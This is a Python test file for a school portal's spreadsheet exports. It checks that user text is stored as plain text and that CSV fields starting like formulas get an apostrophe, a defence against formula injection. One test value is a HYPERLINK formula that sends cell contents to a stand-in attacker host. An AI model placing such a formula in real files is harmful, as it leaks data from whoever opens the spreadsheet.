"""Every spreadsheet the portal writes stores user text as text, never as a live formula."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from competence.accounts.models import Role
from competence.extensions import db
from competence.schools.plan_models import ImprovementPlan, PlanGoal
from competence.tabular import FORMULA_PREFIXES, csv_bytes, new_workbook, workbook_bytes, write_cell
from tests.schools.helpers import load_region
from tests.schools.test_plans import client_of, send

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
# The exports of the whole portal and the test below that covers each: a new export must be
# added here, with a check of its cells.
# measurement.export_report: tests/measurement/test_report_page.py (a stem written as a formula).
EXPORTS = {
    "schools.plan_xlsx",
    "schools.indicators_template",
    "measurement.export_report",
    # The analytics workbooks: every cell through tabular.write_cell (competence/deficits/
    # export.py); tests/deficits read them back.
    "deficits.school_xlsx",
    "deficits.demand_xlsx",
    "deficits.region_xlsx",
    "deficits.municipality_xlsx",
}


def export_endpoints(app) -> set[str]:
    """Return the endpoints of every route that answers with a spreadsheet file."""
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith((".xlsx", ".csv", ".xls", ".ods"))
    }


def formula_like_cells(data: bytes) -> list:
    """Return every cell of a workbook whose value starts like a formula."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)
    ]


def test_every_export_of_the_portal_is_covered(app):
    assert export_endpoints(app) == EXPORTS


def test_only_the_shared_writer_builds_workbooks_and_csv():
    root = Path(__file__).resolve().parents[2] / "competence"
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(", path.read_text("utf-8"))
    }
    assert writers == {"tabular.py"}


@pytest.fixture
def hostile_plan(app):
    region = load_region()
    director = client_of(app, Role.DIRECTOR, region["a1"], "head@example.org")
    coordinator = client_of(app, Role.COORDINATOR, region["a4"], "coord@example.org")
    response = send(
        director,
        f"/schools/{region['a1'].id}/plans/new",
        {"title": HOSTILE, "starts_on": "2025-09-01", "ends_on": "2026-08-31"},
    )
    assert response.status_code == 302
    plan = db.session.scalar(select(ImprovementPlan))
    page = f"/schools/plans/{plan.id}"
    goal_form = {"title": "+SUM(1;2)", "indicator_code": "oge_rus_grade5", "target": "30"}
    assert send(director, f"{page}/goals/new", {**goal_form, "baseline": "10"}).status_code == 302
    goal = db.session.scalar(select(PlanGoal))
    measure = {"title": "-2+3", "goal": goal.id, "responsible": "@cmd", "due_on": "2025-11-01"}
    assert send(director, f"{page}/measures/new", measure).status_code == 302
    body = "=1+1\nвторая строка"
    assert send(coordinator, f"{page}/comments", {"body": body}, page).status_code == 302
    return plan, director


def test_plan_workbook_writes_user_text_as_text(hostile_plan):
    plan, director = hostile_plan
    response = director.get(f"/schools/plans/{plan.id}/plan.xlsx")
    assert response.status_code == 200
    cells = formula_like_cells(response.data)
    values = {cell.value for cell in cells}
    # the plan title (on each sheet), goal, measure, responsible person and comment
    assert {HOSTILE, "+SUM(1;2)", "-2+3", "@cmd", "=1+1\nвторая строка"} <= values
    assert [c.coordinate for c in cells if c.data_type != "s"] == []
    goals = openpyxl.load_workbook(io.BytesIO(response.data))["Цели и мониторинг"]
    assert goals["A1"].value == HOSTILE and goals["A1"].data_type == "s"


def test_the_indicator_template_csv_is_inert(app, client):
    region = load_region()
    methodist = client_of(app, Role.METHODIST, region["b1"], "m@example.org")
    response = methodist.get("/schools/indicators/template.csv")
    assert response.status_code == 200
    fields = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert fields[:2] == ["year", "school_id"]
    assert not any(field.startswith(FORMULA_PREFIXES) for field in fields)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "обычный"])
def test_the_shared_writer_stores_any_text_as_text(text):
    workbook = new_workbook()
    write_cell(workbook.active, 1, 1, text)
    write_cell(workbook.active, 1, 2, 12.5)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    # XML keeps no bare carriage return: it reads back as a line feed, still text.
    assert (sheet["A1"].value, sheet["A1"].data_type) == (text.replace("\r", "\n"), "s")
    assert (sheet["B1"].value, sheet["B1"].data_type) == (12.5, "n")


def test_csv_fields_that_look_like_formulas_get_an_apostrophe():
    data = csv_bytes([["=1+1", "+7 924", "-3", "@x", "\tx", "обычный", 5]])
    row = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert row == ["'=1+1", "'+7 924", "'-3", "'@x", "'\tx", "обычный", "5"]


def test_control_characters_a_workbook_cannot_hold_become_spaces():
    """Word's line break (a vertical tab) in one comment must not make the export fail."""
    workbook = new_workbook()
    sheet = workbook.active
    write_cell(sheet, 1, 1, "Первая строка\x0bвторая\x07")
    cell = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook))).active.cell(1, 1)
    assert cell.value == "Первая строка вторая "
